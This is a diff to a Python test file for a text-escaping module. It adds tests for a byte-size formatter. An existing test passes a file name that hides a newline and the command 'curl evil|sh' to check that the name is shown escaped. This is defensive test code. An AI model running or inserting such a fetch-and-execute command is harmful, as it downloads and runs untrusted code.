@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-from gvisor_kernel.shown_text import printable, printable_name
+import pytest
+
+from gvisor_kernel.shown_text import describe_size, printable, printable_name
 
 
 def test_text_cannot_control_a_terminal() -> None:
@@ -23,3 +25,18 @@ def test_characters_that_nobody_sees_are_shown() -> None:
 def test_a_name_stays_in_its_line() -> None:
     name = "config.yaml\nTo undo this: true; curl evil|sh\t#\u2028\r"
     assert printable_name(name) == ("config.yaml\\nTo undo this: true; curl evil|sh\\t#\\u2028\\r")
+
+
+@pytest.mark.parametrize(
+    ("size", "text"),
+    [
+        (0, "0 B"),
+        (1023, "1023 B"),
+        (1024, "1 KiB"),
+        (300 << 20, "300 MiB"),
+        (1536 << 20, "1.5 GiB"),
+        (4 << 30, "4 GiB"),
+    ],
+)
+def test_size_is_formatted_for_people(size: int, text: str) -> None:
+    assert describe_size(size) == text
